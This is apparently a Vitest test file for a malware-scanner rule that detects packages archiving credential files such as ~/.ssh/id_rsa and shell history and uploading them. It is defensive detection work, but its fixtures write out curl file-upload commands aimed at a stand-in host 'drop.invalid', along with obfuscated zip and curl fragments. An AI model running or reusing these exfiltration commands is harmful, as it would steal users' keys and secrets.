import { describe, expect, it } from 'vitest';
import type { CodeFact } from '../../analysis/types.js';
import { at, call, fileStats, packageFacts, str } from '../rule-test-kit.js';
import { exfilArchiveUpload as rule } from './exfil-archive-upload.js';
import { shape } from './sends-data.js';

const imp = (module: string, line: number): CodeFact => ({
  kind: 'import',
  module,
  dynamic: false,
  computed: false,
  at: at('a.js', line),
});
const path = (value: string, category: string, line: number): CodeFact => ({
  kind: 'sensitive-path',
  value,
  category,
  at: at('a.js', line),
});
const send = call('https.request', 'network', at('a.js', 20), ['https://drop.invalid/']);

describe('exfil-archive-upload', () => {
  it('reports credential files packed and sent at high confidence', () => {
    const findings = rule.run(
      packageFacts({
        code: [
          imp('adm-zip', 1),
          path('~/.ssh/id_rsa', 'ssh', 5),
          path('~/.bash_history', 'shell-history', 6),
          send,
        ],
      }),
    );
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ confidence: 'high', line: 1 });
    expect(findings[0]?.message).toContain('ssh, shell-history');
  });

  it('reports a packed home walk sent by an HTTP client at medium confidence', () => {
    const code = [
      imp('archiver', 1),
      imp('axios', 2),
      call('os.homedir', 'os', at('a.js', 3)),
      call('fs.readdirSync', 'filesystem-read', at('a.js', 4)),
    ];
    expect(rule.run(packageFacts({ code })).map((f) => f.confidence)).toEqual(['medium']);
  });

  it.each([
    'curl -F "file=@/tmp/x.tgz" https://drop.invalid/',
    'curl --upload-file ./out.zip https://drop.invalid/',
    'curl -sS --data-binary @/tmp/env.txt https://drop.invalid',
  ])('reports a curl upload: %s', (command) => {
    const findings = rule.run(
      packageFacts({ code: [call('child_process.exec', 'process', at('a.js', 1), [command])] }),
    );
    expect(findings.map((f) => f.confidence)).toEqual(['medium']);
  });

  it('is silent for an archive of the build folder uploaded (no collected files, no home walk)', () => {
    expect(rule.run(packageFacts({ code: [imp('archiver', 1), send] }))).toEqual([]);
  });

  it('is silent when collected files are archived but nothing is sent', () => {
    expect(rule.run(packageFacts({ code: [imp('tar', 1), path('~/.ssh/config', 'ssh', 2)] }))).toEqual([]);
  });

  it.each(['curl -F name=value https://api.invalid', 'curl -o out.tgz https://x.invalid/a.tgz'])(
    'is silent for curl without a file upload: %s',
    (command) => {
      expect(rule.run(packageFacts({ code: [str(command, at('a.js', 1))] }))).toEqual([]);
    },
  );
});

describe('exfil-archive-upload in a bundle', () => {
  it('is silent when the collected paths are far from any send in a large file', () => {
    const farSend = call('https.request', 'network', at('a.js', 9000), ['https://registry.invalid/']);
    const facts = packageFacts({
      code: [imp('tar', 1), path('~/.npmrc', 'npmrc', 400), farSend],
      files: [fileStats('a.js', { lines: 20_000 })],
    });
    expect(rule.run(facts)).toEqual([]);
  });
});

describe('exfil-archive-upload with shell tools', () => {
  it('reports collected files packed by a zip command and posted by curl (obfuscated command fragments)', () => {
    const code = [
      path('.ssh', 'ssh', 3),
      path('.bash_history', 'shell-history', 4),
      shape('archive-command', 'zip -qr ', at('a.js', 5)),
      shape('curl-file-upload', '" -F "file=@', at('a.js', 6)),
    ];
    const findings = rule.run(packageFacts({ code }));
    expect(findings.map((f) => [f.confidence, f.message.slice(0, 30)])).toEqual([
      ['medium', 'uploads a file with curl: " -F'],
      ['high', 'a.js packs ssh, shell-history '],
    ]);
  });
});
